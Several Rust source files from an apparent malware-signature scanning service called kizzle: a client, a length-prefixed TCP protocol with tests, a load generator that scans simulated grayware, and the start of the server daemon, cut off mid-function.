        let date = SimDate::new(*year, *month, *day);
        let samples = GraywareStream::new(StreamConfig::small(*seed)).generate_day(date);
        service.process_day(date, &samples).expect("day processes");
        {
            let mut ledger = ledger.lock().expect("ledger");
            assert_eq!(ledger.len(), epoch + 1, "one ledger row per publish");
            ledger.push(service.signatures().len());
        }
        service.save(&dir).expect("state saved");

        // Eventual observation: every connection reaches this epoch
        // before the next one is published.
        let target = (epoch + 1) as u64;
        let deadline = Instant::now() + Duration::from_secs(60);
        while last_seen
            .iter()
            .any(|seen| seen.load(Ordering::Acquire) < target)
        {
            assert!(
                Instant::now() < deadline,
                "a connection never observed epoch {target}"
            );
            std::thread::sleep(Duration::from_millis(2));
        }
    }

    stop.store(true, Ordering::Release);
    for (id, scanner) in scanners.into_iter().enumerate() {
        let observed = scanner.join().expect("scanner thread");
        // Exactly-once: each published epoch appears in the observation
        // set exactly once (sets dedupe; monotonicity above rules out
        // revisits), and nothing beyond the published range appears.
        for epoch in 1..=DAYS.len() as u64 {
            assert!(
                observed.contains(&epoch),
                "connection {id} never observed epoch {epoch}: {observed:?}"
            );
        }
        assert!(
            observed.iter().all(|epoch| *epoch <= DAYS.len() as u64),
            "connection {id} saw a phantom epoch: {observed:?}"
        );
    }
    server.shutdown();
    std::fs::remove_dir_all(&dir).ok();
}
