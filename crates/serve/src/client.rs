//! A blocking client for the `kizzle-serve` wire protocol.

use crate::protocol::{
    decode_scan_reply, read_frame, write_request, FrameRead, OP_METRICS, OP_SCAN, OP_SHUTDOWN,
    OP_STATUS, ST_OK,
};
use crate::server::resolve;
use kizzle::ScanVerdict;
use std::io::{self, BufReader, BufWriter, Write};
use std::net::TcpStream;

/// One connection to a `kizzle-serve` daemon. Requests are answered in
/// order, so [`ScanClient::scan_batch`] can pipeline a window of
/// outstanding scans.
pub struct ScanClient {
    reader: BufReader<TcpStream>,
    writer: BufWriter<TcpStream>,
    frame: Vec<u8>,
}

impl ScanClient {
    /// Connect to a daemon at `host:port`.
    pub fn connect(addr: &str) -> io::Result<Self> {
        let stream = TcpStream::connect(resolve(addr)?)?;
        stream.set_nodelay(true)?;
        Ok(ScanClient {
            reader: BufReader::with_capacity(64 * 1024, stream.try_clone()?),
            writer: BufWriter::with_capacity(64 * 1024, stream),
            frame: Vec::new(),
        })
    }

    fn read_reply(&mut self) -> io::Result<&[u8]> {
        match read_frame(&mut self.reader, &mut self.frame)? {
            FrameRead::Frame => {}
            FrameRead::Closed | FrameRead::Idle => {
                return Err(io::Error::new(
                    io::ErrorKind::UnexpectedEof,
                    "server closed the connection",
                ))
            }
        }
        let Some((&status, body)) = self.frame.split_first() else {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                "empty response frame",
            ));
        };
        if status != ST_OK {
            return Err(io::Error::other(format!(
                "server error: {}",
                String::from_utf8_lossy(body)
            )));
        }
        Ok(body)
    }

    /// Scan one document; blocks for the verdict.
    pub fn scan(&mut self, document: &str) -> io::Result<ScanVerdict> {
        write_request(&mut self.writer, OP_SCAN, document.as_bytes())?;
        self.writer.flush()?;
        let body = self.read_reply()?;
        decode_scan_reply(body)
    }

    /// Scan many documents with up to `window` requests in flight,
    /// returning verdicts in document order.
    pub fn scan_batch<'a>(
        &mut self,
        documents: impl IntoIterator<Item = &'a str>,
        window: usize,
    ) -> io::Result<Vec<ScanVerdict>> {
        let window = window.max(1);
        let mut verdicts = Vec::new();
        let mut in_flight = 0usize;
        for document in documents {
            if in_flight == window {
                self.writer.flush()?;
                let body = self.read_reply()?;
                verdicts.push(decode_scan_reply(body)?);
                in_flight -= 1;
            }
            write_request(&mut self.writer, OP_SCAN, document.as_bytes())?;
            in_flight += 1;
        }
        self.writer.flush()?;
        while in_flight > 0 {
            let body = self.read_reply()?;
            verdicts.push(decode_scan_reply(body)?);
            in_flight -= 1;
        }
        Ok(verdicts)
    }

    /// Fetch the daemon's Prometheus metrics text.
    pub fn metrics(&mut self) -> io::Result<String> {
        write_request(&mut self.writer, OP_METRICS, &[])?;
        self.writer.flush()?;
        let body = self.read_reply()?;
        Ok(String::from_utf8_lossy(body).into_owned())
    }

    /// Fetch the daemon's `key=value` status lines.
    pub fn status(&mut self) -> io::Result<String> {
        write_request(&mut self.writer, OP_STATUS, &[])?;
        self.writer.flush()?;
        let body = self.read_reply()?;
        Ok(String::from_utf8_lossy(body).into_owned())
    }

    /// Ask the daemon to drain and exit; consumes the connection.
    pub fn shutdown(mut self) -> io::Result<()> {
        write_request(&mut self.writer, OP_SHUTDOWN, &[])?;
        self.writer.flush()?;
        self.read_reply()?;
        Ok(())
    }
}
