//! The `kizzle-serve` wire protocol: trivial length-prefixed binary
//! frames over TCP.
//!
//! Every message — request or response — is one **frame**:
//!
//! ```text
//! [u32 LE payload length][payload]
//! ```
//!
//! A request payload is `[u8 opcode][body]`; a response payload is
//! `[u8 status][body]`. Responses come back in request order on each
//! connection, so clients may **pipeline**: write a window of requests
//! before reading the first reply (this is how `kizzle-loadgen` pushes a
//! per-scan cost of microseconds through a syscall path that costs more
//! than the scan).
//!
//! | opcode | request body | ok-response body |
//! |--------|--------------|------------------|
//! | [`OP_SCAN`] | the raw document (UTF-8) | `[u8 family][u64 LE epoch][u32 LE index]` |
//! | [`OP_METRICS`] | empty | Prometheus text exposition (UTF-8) |
//! | [`OP_STATUS`] | empty | `key=value` lines (UTF-8) |
//! | [`OP_SHUTDOWN`] | empty | empty (the daemon then drains and exits) |
//!
//! In a scan response, `family` is the kit's index in
//! [`KitFamily::ALL`] or [`NO_FAMILY`], and `index` is the matching
//! signature's index in the published set or [`NO_INDEX`]; `epoch` is the
//! serving follower's publication epoch that answered — a client watching
//! it sees hot swaps as monotone steps, never a torn mixture.
//!
//! An error response carries [`ST_ERROR`] and a human-readable message
//! body. Frames above [`MAX_FRAME`] bytes are refused outright.

use kizzle::ScanVerdict;
use kizzle_corpus::KitFamily;
use std::io::{self, BufRead, Read, Write};

/// Scan a document (body: the document bytes).
pub const OP_SCAN: u8 = 1;
/// Fetch the Prometheus text exposition of the daemon's metrics.
pub const OP_METRICS: u8 = 2;
/// Fetch `key=value` status lines (epoch, signatures, workers, …).
pub const OP_STATUS: u8 = 3;
/// Ask the daemon to drain in-flight work and exit.
pub const OP_SHUTDOWN: u8 = 4;

/// Response status: request handled.
pub const ST_OK: u8 = 0;
/// Response status: request failed; the body is a message.
pub const ST_ERROR: u8 = 1;

/// `family` byte of a scan response that matched nothing (or whose
/// matching signature's label names no known family).
pub const NO_FAMILY: u8 = 0xFF;
/// `index` field of a scan response that matched nothing.
pub const NO_INDEX: u32 = u32::MAX;

/// Hard cap on a frame payload; anything larger is a protocol error, not
/// a buffer to allocate.
pub const MAX_FRAME: usize = 16 * 1024 * 1024;

/// Stable wire code of a kit family: its index in [`KitFamily::ALL`].
#[must_use]
pub fn family_code(family: KitFamily) -> u8 {
    KitFamily::ALL
        .iter()
        .position(|f| *f == family)
        .map_or(NO_FAMILY, |p| u8::try_from(p).unwrap_or(NO_FAMILY))
}

/// Inverse of [`family_code`]; [`NO_FAMILY`] and unknown codes are
/// `None`.
#[must_use]
pub fn family_from_code(code: u8) -> Option<KitFamily> {
    KitFamily::ALL.get(usize::from(code)).copied()
}

/// What one [`read_frame`] call found.
#[derive(Debug, PartialEq, Eq)]
pub enum FrameRead {
    /// A complete frame was read into the buffer.
    Frame,
    /// The peer closed the connection cleanly between frames.
    Closed,
    /// The read timed out between frames (no byte of a new frame seen) —
    /// the caller checks its shutdown flag and retries.
    Idle,
}

/// How many consecutive mid-frame read timeouts are tolerated before the
/// connection is declared dead. With the serve daemon's 100 ms read
/// timeout this bounds a stalled half-frame at about a minute.
const MAX_STALL_RETRIES: u32 = 600;

fn is_retry(kind: io::ErrorKind) -> bool {
    matches!(
        kind,
        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut | io::ErrorKind::Interrupted
    )
}

/// `read_exact` that rides out read timeouts (boundedly): once a frame
/// has begun, a timeout must not tear the stream's framing.
fn read_exact_persistent(reader: &mut impl Read, mut buf: &mut [u8]) -> io::Result<()> {
    let mut stalls = 0;
    while !buf.is_empty() {
        match reader.read(buf) {
            Ok(0) => {
                return Err(io::Error::new(
                    io::ErrorKind::UnexpectedEof,
                    "connection closed mid-frame",
                ))
            }
            Ok(n) => {
                stalls = 0;
                buf = &mut buf[n..];
            }
            Err(err) if is_retry(err.kind()) => {
                stalls += 1;
                if stalls > MAX_STALL_RETRIES {
                    return Err(io::Error::new(
                        io::ErrorKind::TimedOut,
                        "peer stalled mid-frame",
                    ));
                }
            }
            Err(err) => return Err(err),
        }
    }
    Ok(())
}

/// Read one frame's payload into `buf` (replacing its contents).
///
/// Distinguishes the three idle-boundary cases a serving loop needs: a
/// complete frame, a clean close between frames, and a read timeout
/// before any byte of a new frame (so a blocking worker can notice a
/// shutdown flag). A timeout *inside* a frame is ridden out — framing is
/// never torn by timing.
pub fn read_frame(reader: &mut impl BufRead, buf: &mut Vec<u8>) -> io::Result<FrameRead> {
    // Wait for the first byte of the header without consuming it.
    match reader.fill_buf() {
        Ok([]) => return Ok(FrameRead::Closed),
        Ok(_) => {}
        Err(err) if is_retry(err.kind()) => return Ok(FrameRead::Idle),
        Err(err) => return Err(err),
    }
    let mut header = [0u8; 4];
    read_exact_persistent(reader, &mut header)?;
    let len = u32::from_le_bytes(header) as usize;
    if len > MAX_FRAME {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            format!("frame of {len} bytes exceeds the {MAX_FRAME} cap"),
        ));
    }
    buf.resize(len, 0);
    read_exact_persistent(reader, buf)?;
    Ok(FrameRead::Frame)
}

/// Write one frame (length prefix + payload). The caller flushes.
pub fn write_frame(writer: &mut impl Write, payload: &[u8]) -> io::Result<()> {
    let len = u32::try_from(payload.len())
        .map_err(|_| io::Error::new(io::ErrorKind::InvalidInput, "frame payload exceeds u32"))?;
    if payload.len() > MAX_FRAME {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            "frame payload exceeds the cap",
        ));
    }
    writer.write_all(&len.to_le_bytes())?;
    writer.write_all(payload)
}

/// Write a `[opcode][body]` request frame.
pub fn write_request(writer: &mut impl Write, opcode: u8, body: &[u8]) -> io::Result<()> {
    let mut payload = Vec::with_capacity(1 + body.len());
    payload.push(opcode);
    payload.extend_from_slice(body);
    write_frame(writer, &payload)
}

/// Encode a scan verdict as an ok-response payload.
#[must_use]
pub fn encode_scan_reply(verdict: &ScanVerdict) -> Vec<u8> {
    let mut payload = Vec::with_capacity(1 + 1 + 8 + 4);
    payload.push(ST_OK);
    payload.push(verdict.family.map_or(NO_FAMILY, family_code));
    payload.extend_from_slice(&verdict.epoch.to_le_bytes());
    payload.extend_from_slice(&verdict.index.unwrap_or(NO_INDEX).to_le_bytes());
    payload
}

/// Decode an ok scan response body (the payload minus its status byte).
pub fn decode_scan_reply(body: &[u8]) -> io::Result<ScanVerdict> {
    if body.len() != 13 {
        return Err(io::Error::new(
            io::ErrorKind::InvalidData,
            "scan reply must be 13 bytes",
        ));
    }
    let family = family_from_code(body[0]);
    let epoch = u64::from_le_bytes(body[1..9].try_into().expect("8 bytes"));
    let index = u32::from_le_bytes(body[9..13].try_into().expect("4 bytes"));
    Ok(ScanVerdict {
        epoch,
        index: (index != NO_INDEX).then_some(index),
        family,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::BufReader;

    #[test]
    fn frames_roundtrip() {
        let mut wire = Vec::new();
        write_request(&mut wire, OP_SCAN, b"var x = 1;").expect("write");
        write_request(&mut wire, OP_STATUS, b"").expect("write");
        let mut reader = BufReader::new(wire.as_slice());
        let mut buf = Vec::new();
        assert_eq!(
            read_frame(&mut reader, &mut buf).expect("read"),
            FrameRead::Frame
        );
        assert_eq!(buf[0], OP_SCAN);
        assert_eq!(&buf[1..], b"var x = 1;");
        assert_eq!(
            read_frame(&mut reader, &mut buf).expect("read"),
            FrameRead::Frame
        );
        assert_eq!(buf.as_slice(), &[OP_STATUS]);
        assert_eq!(
            read_frame(&mut reader, &mut buf).expect("read"),
            FrameRead::Closed
        );
    }

    #[test]
    fn oversized_frames_are_refused_not_allocated() {
        let mut wire = Vec::new();
        wire.extend_from_slice(&(u32::MAX).to_le_bytes());
        let mut reader = BufReader::new(wire.as_slice());
        let mut buf = Vec::new();
        let err = read_frame(&mut reader, &mut buf).expect_err("oversized");
        assert_eq!(err.kind(), std::io::ErrorKind::InvalidData);
    }

    #[test]
    fn scan_replies_roundtrip() {
        let hit = ScanVerdict {
            epoch: 7,
            index: Some(12),
            family: Some(KitFamily::Angler),
        };
        let payload = encode_scan_reply(&hit);
        assert_eq!(payload[0], ST_OK);
        assert_eq!(decode_scan_reply(&payload[1..]).expect("decode"), hit);

        let miss = ScanVerdict {
            epoch: 3,
            index: None,
            family: None,
        };
        let payload = encode_scan_reply(&miss);
        assert_eq!(decode_scan_reply(&payload[1..]).expect("decode"), miss);
    }

    #[test]
    fn family_codes_roundtrip() {
        for family in KitFamily::ALL {
            assert_eq!(family_from_code(family_code(family)), Some(family));
        }
        assert_eq!(family_from_code(NO_FAMILY), None);
    }
}
