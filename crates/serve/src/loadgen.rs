//! `kizzle-loadgen`: drive a `kizzle-serve` daemon to saturation and
//! report throughput, plus a verify mode that diffs wire verdicts
//! against an in-process [`Matcher`] over the same chain.
//!
//! The generated traffic is the repo's simulated grayware stream — the
//! same mixture the compiler trains on — so detections are exercised,
//! not just misses.

use crate::client::ScanClient;
use kizzle::{ChainFollower, Matcher};
use kizzle_corpus::{GraywareStream, SimDate, StreamConfig};
use std::collections::BTreeSet;
use std::io;
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Configuration for [`run`].
#[derive(Debug, Clone)]
pub struct LoadgenConfig {
    /// Daemon address (`host:port`).
    pub addr: String,
    /// Concurrent connections, one thread each.
    pub connections: usize,
    /// Scans per connection; ignored when `duration` is set.
    pub requests: usize,
    /// Run each connection until this deadline instead of a fixed count.
    pub duration: Option<Duration>,
    /// Pipelining window: outstanding requests per connection.
    pub window: usize,
    /// Seed for the generated document mix.
    pub seed: u64,
}

impl LoadgenConfig {
    /// A short saturation run: 4 connections, 2000 scans each,
    /// 32-request windows.
    #[must_use]
    pub fn new(addr: impl Into<String>) -> Self {
        LoadgenConfig {
            addr: addr.into(),
            connections: 4,
            requests: 2000,
            duration: None,
            window: 32,
            seed: 7,
        }
    }
}

/// What a load run measured.
#[derive(Debug, Clone)]
pub struct LoadgenReport {
    /// Scans answered across all connections.
    pub scans: u64,
    /// Scans whose verdict carried a signature index.
    pub detections: u64,
    /// Wall-clock of the whole run.
    pub elapsed: Duration,
    /// Distinct publication epochs observed in verdicts, ascending. A
    /// mid-run chain publish shows up as one extra epoch here — and as
    /// nothing else: no errors, no drops.
    pub epochs_seen: Vec<u64>,
    /// Scan requests that failed (any I/O or protocol error aborts the
    /// connection and counts its remaining scans here).
    pub errors: u64,
}

impl LoadgenReport {
    /// Aggregate scan throughput.
    #[must_use]
    pub fn scans_per_sec(&self) -> f64 {
        let secs = self.elapsed.as_secs_f64();
        if secs <= 0.0 {
            0.0
        } else {
            // Precision loss is irrelevant at report scale.
            #[allow(clippy::cast_precision_loss)]
            {
                self.scans as f64 / secs
            }
        }
    }
}

/// The document mix a load run scans: one simulated day of grayware.
#[must_use]
pub fn document_mix(seed: u64) -> Vec<String> {
    let config = StreamConfig {
        samples_per_day: 256,
        malicious_fraction: 0.5,
        ..StreamConfig::small(seed)
    };
    GraywareStream::new(config)
        .generate_day(SimDate::new(2014, 8, 5))
        .into_iter()
        .map(|sample| sample.html)
        .collect()
}

/// Drive the daemon with `connections` pipelined connections and collect
/// an aggregate report. Connection-level failures are tallied as
/// `errors`, not propagated — a load run reports, it does not abort.
pub fn run(config: &LoadgenConfig) -> io::Result<LoadgenReport> {
    let documents: Arc<Vec<String>> = Arc::new(document_mix(config.seed));
    let started = Instant::now();
    let deadline = config.duration.map(|d| started + d);

    let mut threads = Vec::with_capacity(config.connections.max(1));
    for conn in 0..config.connections.max(1) {
        let addr = config.addr.clone();
        let documents = Arc::clone(&documents);
        let requests = config.requests;
        let window = config.window.max(1);
        threads.push(std::thread::spawn(move || {
            connection_run(&addr, &documents, conn, requests, deadline, window)
        }));
    }

    let mut scans = 0u64;
    let mut detections = 0u64;
    let mut errors = 0u64;
    let mut epochs = BTreeSet::new();
    for thread in threads {
        let outcome = thread.join().expect("loadgen connection thread");
        scans += outcome.scans;
        detections += outcome.detections;
        errors += outcome.errors;
        epochs.extend(outcome.epochs);
    }
    Ok(LoadgenReport {
        scans,
        detections,
        elapsed: started.elapsed(),
        epochs_seen: epochs.into_iter().collect(),
        errors,
    })
}

struct ConnOutcome {
    scans: u64,
    detections: u64,
    errors: u64,
    epochs: BTreeSet<u64>,
}

fn connection_run(
    addr: &str,
    documents: &[String],
    conn: usize,
    requests: usize,
    deadline: Option<Instant>,
    window: usize,
) -> ConnOutcome {
    let mut outcome = ConnOutcome {
        scans: 0,
        detections: 0,
        errors: 0,
        epochs: BTreeSet::new(),
    };
    let mut client = match ScanClient::connect(addr) {
        Ok(client) => client,
        Err(_) => {
            outcome.errors = requests as u64;
            return outcome;
        }
    };
    // Offset each connection's walk through the mix so the fleet is not
    // scanning the same document in lockstep.
    let mut cursor = (conn * 61) % documents.len().max(1);
    let batch = window * 4;
    loop {
        let done = match deadline {
            Some(deadline) => Instant::now() >= deadline,
            None => outcome.scans >= requests as u64,
        };
        if done {
            break;
        }
        let take = match deadline {
            Some(_) => batch,
            None => batch.min((requests as u64 - outcome.scans) as usize),
        };
        let docs: Vec<&str> = (0..take)
            .map(|i| documents[(cursor + i) % documents.len()].as_str())
            .collect();
        cursor = (cursor + take) % documents.len().max(1);
        match client.scan_batch(docs.iter().copied(), window) {
            Ok(verdicts) => {
                for verdict in verdicts {
                    outcome.scans += 1;
                    if verdict.index.is_some() {
                        outcome.detections += 1;
                    }
                    outcome.epochs.insert(verdict.epoch);
                }
            }
            Err(_) => {
                // The connection is broken; everything not yet scanned
                // on it counts as dropped.
                outcome.errors += match deadline {
                    Some(_) => 1,
                    None => requests as u64 - outcome.scans,
                };
                break;
            }
        }
    }
    outcome
}

/// What a verify pass found.
#[derive(Debug, Clone)]
pub struct VerifyReport {
    /// Documents compared.
    pub compared: usize,
    /// Documents whose wire verdict (signature index + family) differed
    /// from the in-process matcher's.
    pub mismatches: usize,
}

/// Re-scan the document mix through the daemon *and* through an
/// in-process [`Matcher`] tailing the same chain directory, comparing
/// verdicts byte for byte (signature index and family; epochs are
/// counter positions local to each follower and are not compared).
///
/// Call this after publishing has quiesced — mid-swap the two sides may
/// legitimately answer from different epochs.
pub fn verify(addr: &str, chain_dir: &Path, seed: u64) -> io::Result<VerifyReport> {
    let follower = Arc::new(ChainFollower::new(chain_dir));
    follower.poll().map_err(io::Error::other)?;
    let local = Matcher::over(Arc::clone(&follower));

    let documents = document_mix(seed);
    let mut client = ScanClient::connect(addr)?;
    let served = client.scan_batch(documents.iter().map(String::as_str), 32)?;

    let mut mismatches = 0;
    for (document, wire) in documents.iter().zip(&served) {
        let expected = local.scan_verdict(document);
        if (wire.index, wire.family) != (expected.index, expected.family) {
            mismatches += 1;
        }
    }
    Ok(VerifyReport {
        compared: documents.len(),
        mismatches,
    })
}
