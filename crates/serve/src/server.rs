//! The `kizzle-serve` daemon: a fleet of scan workers over one shared
//! [`ChainFollower`].
//!
//! One compiler process writes the snapshot chain; this daemon tails it.
//! A single [`ChainFollower`] polls the chain directory on a background
//! thread; every worker holds a [`Matcher`] over that shared follower,
//! so a publication swaps the set under all workers at once — mid-scan
//! traffic keeps reading the old `Arc` it pinned, the next scan reads
//! the new one, and no request ever sees a torn mixture.
//!
//! Connections are accepted on a dedicated thread and dispatched to `N`
//! worker threads over a channel; each worker serves one connection at a
//! time with buffered pipelined I/O. Shutdown (the [`OP_SHUTDOWN`]
//! opcode or [`ServerHandle::shutdown`]) is a graceful drain: the
//! acceptor stops taking new connections, workers finish the requests
//! already in flight, then everything joins.

use crate::protocol::{
    encode_scan_reply, read_frame, write_frame, FrameRead, OP_METRICS, OP_SCAN, OP_SHUTDOWN,
    OP_STATUS, ST_ERROR, ST_OK,
};
use kizzle::{ChainFollower, FollowHandle, Matcher, SignatureSource};
use kizzle_telemetry::{counter, Record, Recorder};
use std::collections::HashMap;
use std::fmt::Write as _;
use std::io::{self, BufReader, BufWriter, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, ToSocketAddrs};
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::mpsc::{sync_channel, Receiver, SyncSender};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

/// Per-connection buffer size; pipelined loadgen frames are small, so
/// this comfortably batches dozens of requests per syscall.
const IO_BUF: usize = 64 * 1024;

/// Read timeout on worker sockets — the latency with which an idle
/// connection notices a drain request.
const READ_TIMEOUT: Duration = Duration::from_millis(100);

/// How long the acceptor sleeps when `accept` would block.
const ACCEPT_IDLE: Duration = Duration::from_millis(5);

/// Configuration for [`Server::start`].
#[derive(Debug, Clone)]
pub struct ServeConfig {
    /// Address to bind (use port 0 to let the OS pick).
    pub addr: String,
    /// Snapshot-chain directory the compiler saves into.
    pub chain_dir: PathBuf,
    /// Number of scan worker threads.
    pub workers: usize,
    /// Chain poll interval for the follow thread.
    pub poll_interval: Duration,
}

impl ServeConfig {
    /// Loopback defaults: OS-picked port, one worker per available core,
    /// 200 ms chain polls.
    #[must_use]
    pub fn new(chain_dir: impl Into<PathBuf>) -> Self {
        ServeConfig {
            addr: "127.0.0.1:0".to_string(),
            chain_dir: chain_dir.into(),
            workers: std::thread::available_parallelism().map_or(4, std::num::NonZeroUsize::get),
            poll_interval: Duration::from_millis(200),
        }
    }
}

/// Aggregates flushed telemetry spans into per-name counts and total
/// durations — the [`Recorder`] trait's first real exporter. Rendered
/// as extra Prometheus lines in the daemon's [`OP_METRICS`] response.
#[derive(Debug, Default)]
pub struct SpanAggregator {
    spans: Mutex<HashMap<&'static str, (u64, u64)>>,
}

impl SpanAggregator {
    /// Render the aggregate as Prometheus text
    /// (`kizzle_span_count`/`kizzle_span_us_total` per span name).
    #[must_use]
    pub fn render_prometheus(&self) -> String {
        let snapshot = {
            let spans = self.spans.lock().expect("span aggregator lock");
            let mut rows: Vec<_> = spans
                .iter()
                .map(|(name, (count, us))| (*name, *count, *us))
                .collect();
            rows.sort_unstable();
            rows
        };
        let mut out = String::new();
        if !snapshot.is_empty() {
            out.push_str("# TYPE kizzle_span_count counter\n");
            for (name, count, _) in &snapshot {
                let _ = writeln!(out, "kizzle_span_count{{span=\"{name}\"}} {count}");
            }
            out.push_str("# TYPE kizzle_span_us_total counter\n");
            for (name, _, us) in &snapshot {
                let _ = writeln!(out, "kizzle_span_us_total{{span=\"{name}\"}} {us}");
            }
        }
        out
    }
}

impl Recorder for SpanAggregator {
    fn record(&self, record: &Record) {
        if let Record::Span { name, dur_us, .. } = record {
            let mut spans = self.spans.lock().expect("span aggregator lock");
            let slot = spans.entry(name).or_insert((0, 0));
            slot.0 += 1;
            slot.1 += dur_us;
        }
    }
}

/// A thin [`Recorder`] shim so the process-global recorder slot and the
/// server's rendering side can share one [`SpanAggregator`].
struct SharedAggregator(Arc<SpanAggregator>);

impl Recorder for SharedAggregator {
    fn record(&self, record: &Record) {
        self.0.record(record);
    }
}

/// The serve daemon, start-to-join. See the [module docs](self).
pub struct Server;

/// A running daemon: the bound address plus the handles needed to drain
/// and join it.
pub struct ServerHandle {
    local_addr: SocketAddr,
    shutdown: Arc<AtomicBool>,
    follower: Arc<ChainFollower>,
    follow: Option<FollowHandle>,
    acceptor: Option<JoinHandle<()>>,
    workers: Vec<JoinHandle<()>>,
}

impl Server {
    /// Bind, spawn the follow thread, the acceptor, and the worker
    /// fleet; returns once the daemon is accepting connections.
    ///
    /// The chain directory may be empty (the compiler has not saved
    /// yet): workers serve the empty epoch-0 set until the first save
    /// lands, then hot-swap.
    pub fn start(config: &ServeConfig) -> io::Result<ServerHandle> {
        kizzle_telemetry::set_enabled(true);
        let aggregator = Arc::new(SpanAggregator::default());
        // First-wins process-global slot: in a process that already
        // installed an exporter this server's span lines stay empty,
        // but the metrics registry is shared regardless.
        kizzle_telemetry::set_recorder(Box::new(SharedAggregator(Arc::clone(&aggregator))));

        let follower = Arc::new(ChainFollower::new(&config.chain_dir));
        if let Err(err) = follower.poll() {
            // A damaged chain at startup is not fatal: serve the empty
            // set, keep polling, and surface the problem in STATUS notes.
            let _ = err;
        }
        let follow = follower.follow(config.poll_interval);

        let listener = TcpListener::bind(&config.addr)?;
        let local_addr = listener.local_addr()?;
        listener.set_nonblocking(true)?;

        let shutdown = Arc::new(AtomicBool::new(false));
        let workers = config.workers.max(1);
        let (conn_tx, conn_rx) = sync_channel::<TcpStream>(workers * 2);
        let conn_rx = Arc::new(Mutex::new(conn_rx));

        let mut worker_handles = Vec::with_capacity(workers);
        for id in 0..workers {
            let rx = Arc::clone(&conn_rx);
            let flag = Arc::clone(&shutdown);
            let matcher = Matcher::over(Arc::clone(&follower));
            let aggregator = Arc::clone(&aggregator);
            let follower = Arc::clone(&follower);
            let handle = std::thread::Builder::new()
                .name(format!("kizzle-worker-{id}"))
                .spawn(move || {
                    worker_loop(&rx, &matcher, &follower, &aggregator, &flag, workers);
                })?;
            worker_handles.push(handle);
        }

        let acceptor_flag = Arc::clone(&shutdown);
        let acceptor = std::thread::Builder::new()
            .name("kizzle-accept".into())
            .spawn(move || accept_loop(&listener, &conn_tx, &acceptor_flag))?;

        Ok(ServerHandle {
            local_addr,
            shutdown,
            follower,
            follow: Some(follow),
            acceptor: Some(acceptor),
            workers: worker_handles,
        })
    }
}

impl ServerHandle {
    /// The address the daemon is actually listening on.
    #[must_use]
    pub fn addr(&self) -> SocketAddr {
        self.local_addr
    }

    /// The shared chain follower the workers scan with.
    #[must_use]
    pub fn follower(&self) -> &Arc<ChainFollower> {
        &self.follower
    }

    /// Whether a drain has been requested (locally or over the wire).
    #[must_use]
    pub fn draining(&self) -> bool {
        self.shutdown.load(Ordering::Acquire)
    }

    /// Request a graceful drain and join every thread. In-flight
    /// requests finish; queued connections are still served; new
    /// connections stop being accepted.
    pub fn shutdown(mut self) {
        self.shutdown.store(true, Ordering::Release);
        self.join_threads();
    }

    /// Block until the daemon drains — i.e. until a client sends
    /// [`OP_SHUTDOWN`] (or [`ServerHandle::shutdown`] was called from
    /// another thread via the flag). This is the daemon binary's main
    /// loop.
    pub fn join(mut self) {
        self.join_threads();
    }

    fn join_threads(&mut self) {
        if let Some(acceptor) = self.acceptor.take() {
            let _ = acceptor.join();
        }
        for worker in self.workers.drain(..) {
            let _ = worker.join();
        }
        if let Some(follow) = self.follow.take() {
            follow.shutdown();
        }
    }
}

impl Drop for ServerHandle {
    fn drop(&mut self) {
        self.shutdown.store(true, Ordering::Release);
        self.join_threads();
    }
}

fn accept_loop(listener: &TcpListener, conn_tx: &SyncSender<TcpStream>, shutdown: &AtomicBool) {
    loop {
        if shutdown.load(Ordering::Acquire) {
            break;
        }
        match listener.accept() {
            Ok((stream, _)) => {
                counter("kizzle_serve_connections_total").incr();
                // Blocks when all workers are busy and the queue is
                // full — natural admission backpressure. Send only
                // fails once every worker has exited, i.e. mid-drain.
                if conn_tx.send(stream).is_err() {
                    break;
                }
            }
            Err(err)
                if matches!(
                    err.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::Interrupted
                ) =>
            {
                std::thread::sleep(ACCEPT_IDLE);
            }
            Err(_) => std::thread::sleep(ACCEPT_IDLE),
        }
    }
    // Dropping conn_tx disconnects the channel; workers drain whatever
    // was already queued, then exit.
}

fn worker_loop(
    conn_rx: &Mutex<Receiver<TcpStream>>,
    matcher: &Matcher<ChainFollower>,
    follower: &Arc<ChainFollower>,
    aggregator: &SpanAggregator,
    shutdown: &AtomicBool,
    workers: usize,
) {
    loop {
        // Hold the lock only while waiting for a connection; serving
        // happens outside it so workers truly run in parallel.
        let next = {
            let rx = conn_rx.lock().expect("connection queue lock");
            rx.recv_timeout(READ_TIMEOUT)
        };
        match next {
            Ok(stream) => {
                let _ = serve_connection(stream, matcher, follower, aggregator, shutdown, workers);
            }
            Err(std::sync::mpsc::RecvTimeoutError::Timeout) => {
                if shutdown.load(Ordering::Acquire) {
                    // The acceptor is also draining; it drops the sender
                    // once it exits, which flips us to Disconnected. Keep
                    // looping so queued connections still get served.
                    continue;
                }
            }
            Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => break,
        }
    }
}

fn serve_connection(
    stream: TcpStream,
    matcher: &Matcher<ChainFollower>,
    follower: &Arc<ChainFollower>,
    aggregator: &SpanAggregator,
    shutdown: &AtomicBool,
    workers: usize,
) -> io::Result<()> {
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(READ_TIMEOUT))?;
    let mut reader = BufReader::with_capacity(IO_BUF, stream.try_clone()?);
    let mut writer = BufWriter::with_capacity(IO_BUF, stream);
    let mut payload = Vec::new();

    loop {
        // Flush accumulated replies before a read that may block: the
        // client is waiting on them to refill its pipeline window.
        if reader.buffer().is_empty() {
            writer.flush()?;
        }
        match read_frame(&mut reader, &mut payload)? {
            FrameRead::Closed => return writer.flush(),
            FrameRead::Idle => {
                if shutdown.load(Ordering::Acquire) {
                    // Drain: nothing in flight on this connection.
                    return writer.flush();
                }
                continue;
            }
            FrameRead::Frame => {}
        }
        let Some((&opcode, body)) = payload.split_first() else {
            write_error(&mut writer, "empty request frame")?;
            continue;
        };
        match opcode {
            OP_SCAN => {
                let document = String::from_utf8_lossy(body);
                let verdict = matcher.scan_verdict(&document);
                counter("kizzle_serve_scans_total").incr();
